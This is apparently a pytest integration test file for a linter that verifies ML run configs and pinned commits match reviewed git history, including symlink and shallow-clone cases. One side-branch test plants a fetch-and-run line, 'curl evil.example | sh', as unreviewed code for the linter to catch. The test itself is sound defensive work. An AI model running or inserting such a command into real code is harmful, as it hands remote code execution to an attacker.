"""What was approved is exactly what runs: a running plan's run configs (PL708), the pinned commit in
the reviewed history (PL902 in diff mode), and run configs reached through symbolic links.

Attacks, end to end: real git repositories (main and a pull request branch;
a side branch nobody merged; a shallow clone), the real CLI with `--diff-base`.
Each repository pins its configs to a real commit that holds the rollout's code.
"""

from __future__ import annotations

import os
import subprocess

import pytest

from conftest import FIXTURES, write
from plan_overlay import build
from test_diff_mode import commit, git, hermetic_git, new_repo  # noqa: F401 - hermetic_git is an autouse fixture

pytestmark = pytest.mark.integration

PLACEHOLDER_SHA = "4c1f2a7b9e0d3c5a6b7f8e9d0c1b2a3f4e5d6c7b"
TRAINING = (FIXTURES / "run" / "training" / "valid-full.toml").read_text(encoding="utf-8")
EVAL = (FIXTURES / "run" / "eval" / "valid-filled.toml").read_text(encoding="utf-8")
DATASET = 'dataset: {name: retail-refunds, release: "2026.11.03", format: task_metadata, targets: {reviewed: true}, platform: {train: retail-refunds, eval: retail-refunds-eval}}'
RUN = "run: {platform: osmosis, training_config: configs/training/retail.toml, eval_config: configs/eval/retail.toml}"


def head_sha(repo) -> str:
    return git(repo, "rev-parse", "HEAD").strip()


def repository(tmp_path, status: str = "running"):
    """main: the rollout's code in a first commit, then a plan that runs configs pinned to that commit. -> (repo, pinned)."""
    repo = new_repo(tmp_path / "repo")
    write(repo / "rollouts" / "retail-refund" / "main.py", "# the agent workflow\n")
    write(repo / "rollouts" / "retail-refund" / "other.py", "# another agent workflow\n")
    write(repo / "data" / ".gitkeep", "")  # the workspace the SDK submits from has data/
    commit(repo, "the rollout")
    pinned = head_sha(repo)
    write(repo / "configs" / "training" / "retail.toml", TRAINING.replace(PLACEHOLDER_SHA, pinned))
    write(repo / "configs" / "eval" / "retail.toml", EVAL.replace(PLACEHOLDER_SHA, pinned))
    fragment = f'metadata: {{name: retail-refund-window, owner: "@support-ml", status: {status}}}\n{DATASET}\n{RUN}\n'
    write(repo / "plans" / "retail.yaml", build(fragment))
    commit(repo, "the plan")
    git(repo, "checkout", "-q", "-b", "pr")
    return repo, pinned


def edit(repo, rel: str, old: str, new: str) -> None:
    path = repo / rel
    text = path.read_text(encoding="utf-8")
    assert old in text, old
    path.write_text(text.replace(old, new), encoding="utf-8")


def lint(planlint, repo, base: str = "main"):
    result = planlint("--diff-base", base, "--format", "json", "--no-cache", cwd=repo)
    assert result.status in (0, 1), result
    return result


def found(result) -> list[tuple[str, str]]:
    return [(f["path"], f["code"]) for f in result.json["findings"]]


# --------------------------------------------------------------------------- hole 4: every key that decides what runs


@pytest.mark.parametrize("rel, old, new, where", [
    ("configs/training/retail.toml", 'entrypoint = "main.py"', 'entrypoint = "other.py"', "experiment.entrypoint changed from 'main.py' to 'other.py'"),
    ("configs/training/retail.toml", 'rollout = "retail-refund"', 'rollout = "retail-refund"\nnew_key = 1', "experiment.new_key was added (1)"),
    ("configs/training/retail.toml", "kl_coef = 0.001", "kl_coef = 0.0", "advanced.kl_coef changed from 0.001 to 0.0"),
    ("configs/eval/retail.toml", 'entrypoint = "main.py"', 'entrypoint = "other.py"', "experiment.entrypoint changed from 'main.py' to 'other.py'"),
    ("configs/eval/retail.toml", "# limit = 200 ", "limit = 5 ", "evaluation.limit was added (5)"),
])
def test_attack_a_running_plan_switches_what_runs(rel, old, new, where, tmp_path, planlint):
    repo, _ = repository(tmp_path)
    edit(repo, rel, old, new)
    commit(repo, "same commit_sha, other code")
    result = lint(planlint, repo)
    codes = [code for path, code in found(result) if path == rel]
    assert result.status == 1 and "PL708" in codes, result.out
    (finding,) = [f for f in result.json["findings"] if f["code"] == "PL708"]
    kind = "eval" if "eval" in rel else "training"
    assert f"the plan was running at the base revision, and its {kind} config changed: {where}" in finding["message"]


def test_operational_keys_may_change_and_are_shown(tmp_path, planlint):
    repo, _ = repository(tmp_path)
    edit(repo, "configs/training/retail.toml", 'LOG_LEVEL = "INFO"', 'LOG_LEVEL = "DEBUG"')
    edit(repo, "configs/training/retail.toml", 'required = ["OPENAI_API_KEY"]', 'required = ["OPENAI_API_KEY", "HF_TOKEN"]')
    edit(repo, "configs/training/retail.toml", "checkpoint_save_freq = 20", "checkpoint_save_freq = 10")
    commit(repo, "operations")
    result = lint(planlint, repo)
    assert result.json["findings"] == [], result.out
    (card,) = result.json["changes"]
    assert {"yaml_path": "configs/training/retail.toml: env.LOG_LEVEL", "old": "INFO", "new": "DEBUG"} in card["fields"]


# --------------------------------------------------------------------------- hole 6: a symlinked run config


def test_attack_a_symlinked_config_whose_target_changes(tmp_path, planlint):
    repo, _ = repository(tmp_path)
    # PR 1: the config becomes a link to a shared file with the same content (inside configs/training/,
    # where the SDK takes training configs from, links resolved). Clean, and merged.
    shared = "configs/training/shared/x.toml"
    write(repo / shared, (repo / "configs" / "training" / "retail.toml").read_text(encoding="utf-8"))
    (repo / "configs" / "training" / "retail.toml").unlink()
    os.symlink("shared/x.toml", repo / "configs" / "training" / "retail.toml")
    commit(repo, "share the config")
    result = lint(planlint, repo)
    assert result.json["findings"] == [], result.out
    git(repo, "checkout", "-q", "main")
    git(repo, "merge", "-q", "--ff-only", "pr")
    # PR 2 edits only the link's target: another model, lr 0.5.
    git(repo, "checkout", "-q", "-b", "pr2")
    edit(repo, shared, 'model_path = "Qwen/Qwen3-8B"', 'model_path = "Qwen/Qwen3-4B"')
    edit(repo, shared, "lr = 1e-5", "lr = 0.5")
    commit(repo, "tune the shared file")
    result = lint(planlint, repo)
    assert result.json["files"] == 1 and result.status == 1, result.out
    (finding,) = [f for f in result.json["findings"] if f["code"] == "PL708"]
    assert "experiment.model_path changed from 'Qwen/Qwen3-8B' to 'Qwen/Qwen3-4B'" in finding["message"]
    assert "training.lr changed from 1e-05 to 0.5" in finding["message"]


# --------------------------------------------------------------------------- hole 5: the pinned commit is the reviewed one


def test_attack_the_pinned_commit_is_on_a_side_branch(tmp_path, planlint):
    repo, pinned = repository(tmp_path, status="approved")
    git(repo, "checkout", "-q", "-b", "side", pinned)
    write(repo / "rollouts" / "retail-refund" / "main.py", "import os; os.system('curl evil.example | sh')\n")
    commit(repo, "code nobody reviews")
    side = head_sha(repo)
    git(repo, "checkout", "-q", "pr")
    edit(repo, "configs/training/retail.toml", pinned, side)
    commit(repo, "pin the side branch")
    result = lint(planlint, repo)
    assert result.status == 1 and ("configs/training/retail.toml", "PL902") in found(result), result.out
    (finding,) = [f for f in result.json["findings"] if f["code"] == "PL902"]
    assert finding["yaml_path"] == "experiment.commit_sha" and finding["severity"] == "error"
    assert f"commit_sha {side[:12]} is not in the reviewed history (not an ancestor of the head)" in finding["message"]


def test_the_pinned_commits_rollout_must_be_the_one_the_head_shows(tmp_path, planlint):
    repo, pinned = repository(tmp_path, status="approved")
    write(repo / "rollouts" / "retail-refund" / "main.py", "# the agent workflow, reviewed in this pull request\n")
    edit(repo, "configs/training/retail.toml", "lr = 1e-5", "lr = 2e-5")
    commit(repo, "new rollout code, still pinned to the old commit")
    result = lint(planlint, repo)
    (finding,) = [f for f in result.json["findings"] if f["code"] == "PL902"]
    assert finding["path"] == "configs/training/retail.toml"
    assert (f"rollouts/retail-refund/ at commit {pinned[:12]} is not the one the head shows (main.py differs): "
            "the platform runs the pinned commit's code, not the code under review") in finding["message"], finding
    # Pinning the commit that holds the reviewed code passes.
    edit(repo, "configs/training/retail.toml", pinned, head_sha(repo))
    commit(repo, "pin the reviewed commit")
    assert [f for f in lint(planlint, repo).json["findings"] if f["code"] == "PL902"] == []


def test_a_config_the_pull_request_does_not_touch_is_not_rejudged(tmp_path, planlint):
    repo, _ = repository(tmp_path, status="running")
    write(repo / "rollouts" / "retail-refund" / "main.py", "# tomorrow's agent workflow\n")
    edit(repo, "plans/retail.yaml", "owner: \"@support-ml\"", "owner: \"@support-ml\" ")
    commit(repo, "work on the next rollout")
    assert [f for f in lint(planlint, repo).json["findings"] if f["code"] == "PL902"] == []


def test_a_shallow_clone_is_a_finding_never_a_pass(tmp_path, planlint):
    repo, pinned = repository(tmp_path, status="approved")
    git(repo, "checkout", "-q", "main")
    write(repo / "README.md", "main moves on\n")
    commit(repo, "main moves on")
    git(repo, "checkout", "-q", "pr")
    git(repo, "merge", "-q", "--ff-only", "main")
    edit(repo, "configs/training/retail.toml", "lr = 1e-5", "lr = 2e-5")
    commit(repo, "tune")
    clone = tmp_path / "clone"  # two commits of each branch: the base is there, the pinned commit is not
    subprocess.run(["git", "clone", "-q", "--depth", "2", "--no-single-branch", f"file://{repo}", str(clone)], check=True, cwd=tmp_path)
    git(clone, "checkout", "-q", "pr")
    result = lint(planlint, clone, "origin/main")
    (finding,) = [f for f in result.json["findings"] if f["code"] == "PL902"]
    assert result.status == 1 and finding["severity"] == "error"
    assert "this is a shallow clone" in finding["message"] and "fetch-depth: 0" in finding["message"], finding
    full = tmp_path / "full"  # the README's workflow: fetch-depth: 0
    subprocess.run(["git", "clone", "-q", "--no-single-branch", f"file://{repo}", str(full)], check=True, cwd=tmp_path)
    git(full, "checkout", "-q", "pr")
    assert [f for f in lint(planlint, full, "origin/main").json["findings"] if f["code"] == "PL902"] == []


def test_a_running_plans_benchmark_config_is_frozen_too(tmp_path, planlint):
    repo, _ = repository(tmp_path)
    benchmark = (FIXTURES / "run" / "benchmark" / "valid-provider.toml").read_text(encoding="utf-8")
    write(repo / "configs" / "benchmark" / "retail.toml", benchmark)
    edit(repo, "plans/retail.yaml", "eval_config: configs/eval/retail.toml}", "eval_config: configs/eval/retail.toml, benchmark_config: configs/benchmark/retail.toml}")
    commit(repo, "a benchmark of the running plan")
    from test_diff_mode import git as run_git

    run_git(repo, "checkout", "-q", "main")
    run_git(repo, "merge", "-q", "--ff-only", "pr")
    run_git(repo, "checkout", "-q", "-b", "pr2")
    assert lint(planlint, repo).json["findings"] == []
    edit(repo, "configs/benchmark/retail.toml", 'LOG_LEVEL = "INFO"', 'LOG_LEVEL = "DEBUG"')  # operations
    commit(repo, "more logs")
    assert lint(planlint, repo).json["findings"] == []
    edit(repo, "configs/benchmark/retail.toml", "attempts_per_task = 2", "attempts_per_task = 1")
    commit(repo, "fewer attempts")
    (finding,) = [f for f in lint(planlint, repo).json["findings"] if f["code"] == "PL708"]
    assert finding["path"] == "configs/benchmark/retail.toml"
    assert "its benchmark config changed: execution.attempts_per_task changed from 2 to 1" in finding["message"]
